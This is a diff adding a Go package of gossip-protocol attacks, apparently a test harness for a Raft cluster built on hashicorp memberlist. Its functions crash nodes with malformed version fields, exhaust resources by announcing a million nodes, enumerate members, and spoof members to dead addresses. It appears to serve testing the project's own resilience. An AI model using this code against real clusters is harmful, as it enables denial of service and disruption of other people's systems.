@@ -1,0 +1,182 @@
+package attacks
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/hashicorp/go-msgpack/v2/codec"
+)
+
+// label is what members' gossip begins with.
+const label = "snowraft/1"
+
+func labeled(said []byte) []byte {
+	return append(append([]byte{244, byte(len(label))}, label...), said...)
+}
+
+// Meta is what a node says of itself in gossip and in handshakes.
+type Meta struct {
+	ID       string `json:"i"`
+	Name     string `json:"n"`
+	Cluster  string `json:"c,omitempty"`
+	Starts   uint64 `json:"s"`
+	Raft     string `json:"r"`
+	API      string `json:"a,omitempty"`
+	Gossip   string `json:"g,omitempty"`
+	Version  string `json:"v,omitempty"`
+	Commands uint32 `json:"f"`
+	Nonvoter bool   `json:"o,omitempty"`
+}
+
+func (m Meta) encode() []byte {
+	raw, err := json.Marshal(m)
+	if err != nil {
+		panic(err) // strings and numbers only
+	}
+	return raw
+}
+
+func (m Meta) gossipName() string { return fmt.Sprintf("%s/%d", m.ID, m.Starts) }
+
+// stranger is a node that is of no cluster, as one that has just started.
+func stranger() Meta {
+	return Meta{ID: uuid.NewString(), Name: "stranger", Starts: 1, Raft: "127.0.0.1:9", API: "127.0.0.1:9", Gossip: "127.0.0.1:9", Commands: 1}
+}
+
+// state is one node in memberlist's exchange of states.
+type state struct {
+	Name        string
+	Addr        []byte
+	Port        uint16
+	Meta        []byte
+	Incarnation uint32
+	State       int
+	Vsn         []byte
+}
+
+func (m Meta) state() state {
+	return state{Name: m.gossipName(), Addr: []byte{127, 0, 0, 1}, Port: 9, Meta: m.encode(), Incarnation: 1, Vsn: []byte{1, 5, 2, 0, 0, 0}}
+}
+
+// exchange is memberlist's exchange of states, which announces so many nodes.
+func exchange(announced int, states ...state) []byte {
+	said := append([]byte{6}, packed(exchangeHead{Nodes: announced, Join: true})...)
+	for _, s := range states {
+		said = append(said, packed(s)...)
+	}
+	return said
+}
+
+type exchangeHead struct {
+	Nodes, UserStateLen int
+	Join                bool
+}
+
+// ShortVersions exchanges states about a node whose versions are too few: memberlist 0.6.0 panics.
+func ShortVersions(ctx context.Context, gossip string) error {
+	for n := range 6 {
+		s := stranger().state()
+		s.Vsn = s.Vsn[:n]
+		if err := say(ctx, gossip, labeled(exchange(1, s))); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// MillionNodes opens connections that announce 2^20 nodes each, and holds them for as long as ctx lasts.
+func MillionNodes(ctx context.Context, gossip string, connections int) error {
+	for range connections {
+		conn, err := dial(ctx, "tcp", gossip)
+		if err != nil {
+			if refused(err) {
+				continue
+			}
+			return err
+		}
+		context.AfterFunc(ctx, func() { _ = conn.Close() })
+		if _, err := conn.Write(labeled(exchange(1 << 20))); err != nil && !refused(err) {
+			return err
+		}
+	}
+	return nil
+}
+
+// Datagrams sends datagrams as they are.
+func Datagrams(ctx context.Context, gossip string, all ...[]byte) error {
+	conn, err := dial(ctx, "udp", gossip)
+	if err != nil {
+		return err
+	}
+	defer conn.Close() //nolint:errcheck // nothing is buffered
+	for _, raw := range all {
+		if _, err := conn.Write(raw); err != nil && !refused(err) {
+			return err
+		}
+	}
+	return nil
+}
+
+// Overhear asks a member who is there, as whoever joins a cluster does. A secured member says nothing.
+func Overhear(ctx context.Context, gossip string) ([]Meta, error) {
+	conn, err := dial(ctx, "tcp", gossip)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close() //nolint:errcheck // the answer counts
+	if _, err := conn.Write(labeled(exchange(0))); err != nil {
+		return nil, err
+	}
+	kind := make([]byte, 1)
+	if _, err := conn.Read(kind); err != nil || kind[0] != 6 {
+		return nil, errors.Join(ErrShut, err)
+	}
+	decoder := codec.NewDecoder(conn, &codec.MsgpackHandle{})
+	var head exchangeHead
+	if err := decoder.Decode(&head); err != nil {
+		return nil, err
+	}
+	var all []Meta
+	for range head.Nodes {
+		var s state
+		if err := decoder.Decode(&s); err != nil {
+			return nil, err
+		}
+		var m Meta
+		if err := json.Unmarshal(s.Meta, &m); err != nil {
+			return nil, err
+		}
+		all = append(all, m)
+	}
+	return all, nil
+}
+
+// MoveByGossip says of each of these members that it was started again, and is now where nobody answers.
+func MoveByGossip(ctx context.Context, gossip string, members []Meta) error {
+	var states []state
+	for _, m := range members {
+		m.Starts++
+		host, _, err := net.SplitHostPort(m.Raft)
+		if err != nil {
+			return err
+		}
+		m.Raft, m.API, m.Gossip = net.JoinHostPort(host, "9"), net.JoinHostPort(host, "9"), net.JoinHostPort(host, "9")
+		states = append(states, m.state())
+	}
+	for range 3 { // they refute it
+		if err := say(ctx, gossip, labeled(exchange(len(states), states...))); err != nil {
+			return err
+		}
+		select {
+		case <-time.After(time.Second):
+		case <-ctx.Done():
+			return ctx.Err()
+		}
+	}
+	return nil
+}
